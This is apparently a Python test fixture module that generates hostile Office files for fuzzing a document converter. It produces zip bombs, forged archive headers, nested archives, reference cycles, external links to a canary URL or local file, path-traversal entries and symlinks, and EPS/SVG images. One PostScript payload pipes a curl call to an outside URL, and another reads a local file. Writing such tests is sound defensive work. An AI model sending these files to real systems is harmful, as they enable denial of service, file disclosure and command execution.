"""Hostile Office files: bombs, entities, cycles, paths out. One function a kind.

Each takes the dice, and the URL and the file that no document may reach.
"""

import io
import random
import warnings
import zipfile
import zlib
from collections.abc import Mapping
from xml.sax.saxutils import escape

from tests import documents

MIB = 1024 * 1024
BODY_START = f'<w:document xmlns:w="{documents.WORD}"><w:body>'
BODY_END = "</w:body></w:document>"
BODY, TYPES, RELATED = "word/document.xml", "[Content_Types].xml", "word/_rels/document.xml.rels"
EXTERNAL = f'<Relationships xmlns="{documents.RELATIONSHIPS}">'
Parts = dict[str, str | bytes]


def parts_of(archive: bytes) -> Parts:
    with zipfile.ZipFile(io.BytesIO(archive)) as opened:
        return {name: opened.read(name) for name in opened.namelist()}


def docx_with(more: Mapping[str, str | bytes]) -> bytes:
    """Return a whole DOCX with some of its parts replaced, and others added."""
    whole = parts_of(documents.docx(documents.paragraph("Some words.")))
    return documents.zip_of({**whole, **more})


def pptx_with(more: Mapping[str, str | bytes]) -> bytes:
    return documents.zip_of({**parts_of(documents.pptx({"A title": ["some words"]})), **more})


def docx_body(body: str) -> str:
    return f"{BODY_START}{body}{BODY_END}"


def zip_bomb(dice: random.Random, url: str, file: str) -> bytes:
    name = dice.choice([BODY, TYPES, "word/media/image1.png", "word/styles.xml", "word/other.xml"])
    filler = " " * MIB
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for part, content in parts_of(documents.docx(documents.paragraph("Words."))).items():
            if part != name:
                archive.writestr(part, content)
        with archive.open(name, "w", force_zip64=True) as bomb:
            for _ in range(dice.choice([5, 40, 150])):
                bomb.write(filler.encode())
    return out.getvalue()


def lying_sizes(dice: random.Random, url: str, file: str) -> bytes:
    """The archive's directory declares that the part is small; it is not."""
    made = bytearray(docx_with({BODY: docx_body(documents.paragraph("x" * 20) * 300_000)}))
    with zipfile.ZipFile(io.BytesIO(made)) as archive:
        size = archive.getinfo(BODY).file_size.to_bytes(4, "little")
    declared_size = dice.choice([0, 100, 2**32 - 1, 2**31]).to_bytes(4, "little")
    return bytes(made.replace(size, declared_size))


def overlapping_parts(dice: random.Random, url: str, file: str) -> bytes:
    """Thousands of names in the directory, one piece of data for all of them."""
    made = documents.zip_of({BODY: docx_body(documents.paragraph("words") * 20_000)})
    start = made.index(b"PK\x01\x02")
    stop = made.index(b"PK\x05\x06")
    entry = made[start:stop]
    count = dice.choice([1_000, 19_000, 60_000])
    names = [b"word/%08d.xm" % n for n in range(count)]
    assert len(names[0]) <= len(BODY)
    listed = b"".join(entry.replace(BODY.encode(), n.ljust(len(BODY), b"l")) for n in names) + entry
    ending = b"PK\x05\x06" + b"\0\0\0\0" + min(count + 1, 65535).to_bytes(2, "little") * 2
    ending += len(listed).to_bytes(4, "little") + start.to_bytes(4, "little") + b"\0\0"
    return made[:start] + listed + ending


def many_parts(dice: random.Random, url: str, file: str) -> bytes:
    count = dice.choice([5_000, 30_000])
    return docx_with({f"word/part{number}.xml": "<a/>" for number in range(count)})


def nested_archives(dice: random.Random, url: str, file: str) -> bytes:
    inner = documents.zip_of({"zeros": b"\0" * 8 * MIB})
    for depth in range(dice.choice([3, 12])):
        inner = documents.zip_of({f"{depth}-{n}.zip": inner for n in range(4)})
    name = dice.choice(["word/embeddings/more.docx", "word/media/image1.png", "word/afchunk.docx"])
    chunk = f'<w:altChunk xmlns:r="{documents.OFFICE_RELATIONSHIPS}" r:id="rId9"/>'
    return docx_with({name: inner, BODY: docx_body(chunk + documents.paragraph("Some words."))})


def wide_tables(dice: random.Random, url: str, file: str) -> bytes:
    span = dice.choice([200, 10**6, 10**30])
    cell = f'<w:tc><w:tcPr><w:gridSpan w:val="{span}"/></w:tcPr><w:p/></w:tc>'
    merged = '<w:tc><w:tcPr><w:vMerge w:val="restart"/></w:tcPr><w:p/></w:tc>'
    row = f"<w:tr>{cell * dice.choice([1, 300])}{merged}</w:tr>"
    return docx_with({BODY: docx_body(f"<w:tbl>{row * dice.choice([10, 300])}</w:tbl>")})


def flood_of_runs(dice: random.Random, url: str, file: str) -> bytes:
    run = dice.choice(
        [
            "<w:r><w:t>a</w:t></w:r>",
            "<w:r><w:rPr><w:b/><w:i/></w:rPr><w:t>a*_</w:t></w:r>",
            '<w:hyperlink w:anchor="a"><w:r><w:t>a</w:t></w:r></w:hyperlink>',
            "<w:r><w:tab/><w:br/></w:r>",
        ]
    )
    count = dice.choice([20_000, 200_000])
    together = dice.random() < 0.5
    body = f"<w:p>{run * count}</w:p>" if together else f"<w:p>{run}</w:p>" * count
    return docx_with({BODY: docx_body(body)})


def flood_of_slides(dice: random.Random, url: str, file: str) -> bytes:
    """One slide, thousands of times in the list of slides."""
    parts = parts_of(documents.pptx({"A title": ["some words"]}))
    show = parts["ppt/presentation.xml"]
    assert isinstance(show, bytes)
    head, _, tail = show.partition(b"<p:sldId ")
    entry, _, rest = tail.partition(b"/>")
    listed = b"".join(b"<p:sldId %s/>" % entry for _ in range(dice.choice([1_000, 100_000])))
    return documents.zip_of(parts | {"ppt/presentation.xml": head + listed + rest})


def relationship_cycles(dice: random.Random, url: str, file: str) -> bytes:
    """Styles, notes and slides that lead to themselves."""
    own = f'{EXTERNAL}<Relationship Id="rId1" Type="{documents.OFFICE_RELATIONSHIPS}/'
    style = f'<w:styles xmlns:w="{documents.WORD}"><w:style w:type="paragraph" w:styleId="A">'
    style += '<w:name w:val="a"/><w:basedOn w:val="A"/><w:link w:val="A"/></w:style></w:styles>'
    note = f'<w:footnotes xmlns:w="{documents.WORD}"><w:footnote w:id="1"><w:p><w:r>'
    note += '<w:footnoteReference w:id="1"/></w:r></w:p></w:footnote></w:footnotes>'
    noted = f'{EXTERNAL}<Relationship Id="n" Type="{documents.OFFICE_RELATIONSHIPS}/footnotes" '
    noted += 'Target="footnotes.xml"/></Relationships>'
    used = (
        '<w:p><w:pPr><w:pStyle w:val="A"/></w:pPr><w:r><w:footnoteReference w:id="1"/></w:r></w:p>'
    )
    layout = "ppt/slideLayouts/_rels/slideLayout2.xml.rels"
    made = [
        docx_with({"word/styles.xml": style, BODY: docx_body(used)}),
        docx_with({"word/footnotes.xml": note, RELATED: noted, BODY: docx_body(used)}),
        pptx_with({layout: f'{own}slideMaster" Target="slideLayout2.xml"/></Relationships>'}),
        pptx_with(
            {
                "ppt/slides/_rels/slide1.xml.rels": f'{own}slideLayout" Target="slide1.xml"/>'
                "</Relationships>"
            }
        ),
        docx_with({"_rels/.rels": f'{own}officeDocument" Target="_rels/.rels"/></Relationships>'}),
    ]
    return dice.choice(made)


def outside_relations(dice: random.Random, url: str, file: str) -> bytes:
    """Images, templates and objects at other addresses, for a reader that fetches them."""
    target = escape(dice.choice([url, f"file://{file}", file, f"../../../../../../..{file}"]))
    mode = dice.choice(['TargetMode="External"', ""])
    related = EXTERNAL + "".join(
        f'<Relationship Id="r{n}" Type="{documents.OFFICE_RELATIONSHIPS}/{kind}" {mode} '
        f'Target="{target}"/>'
        for n, kind in enumerate(("image", "attachedTemplate", "oleObject", "styles", "footnotes"))
    )
    picture = documents.image_in_docx("from outside")
    linked = picture.replace('r:embed="rId9"', 'r:link="r0" r:embed="r0"')
    if dice.random() < 0.7:
        return docx_with({BODY: docx_body(linked), RELATED: f"{related}</Relationships>"})
    return pptx_with({"ppt/slides/_rels/slide1.xml.rels": f"{related}</Relationships>"})


def paths_with_dotdot(dice: random.Random, url: str, file: str) -> bytes:
    """Names and links that lead out of the archive."""
    out = io.BytesIO(docx_with({}))
    escaped = f"{file}-escaped"
    names = ["../" * 12 + escaped, escaped, "..\\..\\escaped", "C:\\escaped", "a\0b"]
    names += [f"word/{'x' * 60_000}", "word/document.xml"]
    with warnings.catch_warnings(action="ignore"), zipfile.ZipFile(out, "a") as archive:
        for name in dice.sample(names, 4):
            archive.writestr(zipfile.ZipInfo(name), "escaped")
        link = zipfile.ZipInfo("word/media/image1.png")
        link.create_system, link.external_attr = 3, 0o120777 << 16
        archive.writestr(link, file)
    return out.getvalue()


def programs_as_pictures(dice: random.Random, url: str, file: str) -> bytes:
    data, ending = dice.choice(
        [
            (f"%!PS-Adobe-3.0 EPSF-3.0\n({file}) (r) file 100 string readstring", "eps"),
            (f"%!PS\n%%BoundingBox: 0 0 9 9\n{{}} loop\n(%pipe%curl {url}) (r) file", "eps"),
            ("\xd7\xcd\xc6\x9a" + "\xff" * 5_000, "wmf"),
            (f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{url}"/></svg>', "svg"),
        ]
    )
    picture = documents.image_in_docx("a picture")
    related = f'{EXTERNAL}<Relationship Id="rId9" Type="{documents.OFFICE_RELATIONSHIPS}/image" '
    related += f'Target="media/p.{ending}"/></Relationships>'
    return docx_with({f"word/media/p.{ending}": data, BODY: docx_body(picture), RELATED: related})


def slow_matches(dice: random.Random, url: str, file: str) -> bytes:
    """Text that looks like the marks of Markdown, again and again."""
    piece = dice.choice(["*", "_", "`", "[", "](", "<", "&", "\\", "|", "#", " ", "\ue0001\ue001"])
    return docx_with(
        {BODY: docx_body(documents.paragraph(piece * dice.choice([10_000, 1_000_000])))}
    )


def huge_words(dice: random.Random, url: str, file: str) -> bytes:
    """More Markdown than may result from a document: 70 MiB of one letter, packed well."""
    text = "a" * dice.choice([1, 70]) * MIB
    body = docx_body(
        "".join(documents.paragraph(text[n : n + MIB]) for n in range(0, len(text), MIB))
    )
    level = zlib.Z_BEST_SPEED
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
        for part, content in parts_of(docx_with({})).items():
            archive.writestr(part, body if part == BODY else content)
    return out.getvalue()


KINDS = {
    "office: zip bomb": zip_bomb,
    "office: lying sizes": lying_sizes,
    "office: overlapping parts": overlapping_parts,
    "office: tens of thousands of parts": many_parts,
    "office: nested archives": nested_archives,
    "office: wide tables": wide_tables,
    "office: flood of runs": flood_of_runs,
    "office: flood of slides": flood_of_slides,
    "office: circles": relationship_cycles,
    "office: relations to outside": outside_relations,
    "office: paths that climb": paths_with_dotdot,
    "office: programs as pictures": programs_as_pictures,
    "office: marks of Markdown": slow_matches,
    "office: too many words": huge_words,
}
"""Name and maker of each kind."""
